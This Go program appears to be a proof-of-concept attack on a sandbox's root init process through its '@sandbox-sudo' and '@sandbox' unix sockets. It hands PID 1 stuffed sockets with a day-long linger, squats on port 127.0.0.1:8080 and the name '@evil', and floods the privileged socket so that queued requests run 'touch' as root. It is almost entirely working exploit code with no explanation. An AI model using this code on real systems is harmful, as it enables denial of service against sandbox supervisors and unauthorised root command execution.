package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

// The port and the name that are sent along.
const (
	lingerPort = "127.0.0.1:8080"
	lingerName = "@evil"
)

// linger sends PID 1 sockets whose last close waits for a day, with others, and
// lets go of them: with all to the socket for sudo, and to that for questions.
func linger(rounds int, waits bool) error {
	for range rounds {
		for _, to := range []struct {
			kind   int
			name   string
			packet string
		}{
			{unix.SOCK_SEQPACKET, "@sandbox-sudo", `{"argv":["nonexist","` + string(bytesOf('a', 3000)) + `"]}`},
			{unix.SOCK_STREAM, "@sandbox", "x"},
		} {
			if err := lingerOnce(to.kind, to.name, to.packet, waits); err != nil {
				return err
			}
		}
	}
	fmt.Println("sent")
	return nil
}

func bytesOf(b byte, n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = b
	}
	return out
}

func lingerOnce(kind int, name, packet string, waits bool) error {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	var fds []int
	defer func() {
		for _, fd := range fds {
			go func() { _ = unix.Close(fd) }() // PID 1 may have let go first: then this waits, until we end
		}
	}()
	take := func(f *os.File, err error) error {
		if err != nil {
			return err
		}
		defer f.Close()
		fd, err := unix.FcntlInt(f.Fd(), unix.F_DUPFD_CLOEXEC, 3)
		fds = append(fds, fd)
		return err
	}
	c, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		return err
	}
	peer, err := l.Accept()
	if err != nil {
		return err
	}
	if err := errors.Join(take(c.(*net.TCPConn).File()), take(peer.(*net.TCPConn).File()), c.Close(), peer.Close(), l.Close()); err != nil {
		return err
	}
	_ = unix.SetNonblock(fds[0], true)
	for err == nil {
		_, err = unix.Write(fds[0], make([]byte, 64<<10))
	}
	if waits {
		if err := unix.SetsockoptLinger(fds[0], unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 86400}); err != nil {
			return err
		}
	}
	if l, err := net.Listen("tcp", lingerPort); err == nil {
		_ = take(l.(*net.TCPListener).File())
		_ = l.Close()
	}
	if l, err := net.Listen("unix", lingerName); err == nil {
		_ = take(l.(*net.UnixListener).File())
		_ = l.Close()
	}
	s, err := unix.Socket(unix.AF_UNIX, kind|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	if err := unix.Connect(s, &unix.SockaddrUnix{Name: name}); err != nil {
		return nil // its queue is full: one that waits is in it
	}
	_ = unix.Sendmsg(s, []byte(packet), unix.UnixRights(fds...), nil, unix.MSG_NOSIGNAL)
	for _, fd := range fds {
		go func() { _ = unix.Close(fd) }()
	}
	fds = nil
	time.Sleep(2 * time.Millisecond) // PID 1 comes to it
	return nil
}

// lingerFree tells whether the port and the name can be had.
func lingerFree() error {
	for i, address := range []string{lingerPort, lingerName} {
		l, err := net.Listen([]string{"tcp", "unix"}[i], address)
		if err != nil {
			return err
		}
		_ = l.Close()
	}
	fmt.Println("free")
	return nil
}

// askSudo has a command run as root by PID 1, and tells what it answers.
func askSudo() error {
	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	wait := unix.NsecToTimeval(int64(20 * time.Second))
	err = errors.Join(unix.SetsockoptTimeval(s, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait), unix.Connect(s, &unix.SockaddrUnix{Name: "@sandbox-sudo"}))
	if err != nil {
		return err
	}
	if err := unix.Sendmsg(s, []byte(`{"argv":["true"]}`), unix.UnixRights(0, 1, 2), nil, 0); err != nil {
		return err
	}
	buf := make([]byte, 4096)
	n, err := unix.Read(s, buf)
	if err == nil {
		fmt.Println(string(buf[:n]))
	}
	return err
}

// queueSudo has as many connections as PID 1 serves at once, and behind them
// some with a request. It lets go of the first when a line of input comes.
func queueSudo(file string) error {
	const served, queued = 64, 8
	var held []int
	for i := range served + queued {
		s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
		if err == nil {
			err = unix.Connect(s, &unix.SockaddrUnix{Name: "@sandbox-sudo"})
		}
		if err != nil {
			return err
		}
		if i < served {
			held = append(held, s)
			time.Sleep(2 * time.Millisecond) // it is accepted
			continue
		}
		if err := unix.Sendmsg(s, []byte(`{"argv":["touch","`+file+`"]}`), unix.UnixRights(0, 1, 2), nil, 0); err != nil {
			return err
		}
	}
	fmt.Println("queued")
	_, _ = os.Stdin.Read(make([]byte, 1))
	for _, s := range held {
		_ = unix.Close(s)
	}
	select {}
}
